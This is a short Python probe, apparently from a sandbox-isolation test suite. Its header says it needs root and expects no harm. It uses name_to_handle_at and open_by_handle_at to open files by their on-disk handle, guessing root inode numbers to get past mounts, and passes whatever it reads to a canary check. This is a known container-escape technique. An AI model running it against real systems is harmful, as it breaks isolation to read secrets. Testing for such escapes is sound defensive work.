# what: opens a file by its number on the disk, past all mounts
# none: succeeds
# harm: secret
# needs: root
# expected: no harm
import struct

class Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128))


handle, mount = Handle(128), ctypes.c_int()
path = target.course.encode() + b"/source/ps1/ps1.ipynb"
print(syscall("name_to_handle_at", -100, path, ctypes.byref(handle), ctypes.byref(mount), 0))
for start in ("/", "/usr", "/etc"):
    got = syscall("open_by_handle_at", os.open(start, os.O_RDONLY), ctypes.byref(handle), 0)
    if got >= 0:
        canaries(os.read(got, 1000))
for number in (2, 11, 12):  # the root folder of a disk has a well-known number
    handle = Handle(8, 1)
    struct.pack_into("=II", handle.data, 0, number, 0)
    for start in ("/", "/usr", "/etc"):
        got = syscall("open_by_handle_at", os.open(start, os.O_RDONLY), ctypes.byref(handle), os.O_DIRECTORY)
        if got >= 0:
            canaries(open(f"/proc/self/fd/{got}" + path.decode(), "rb").read())
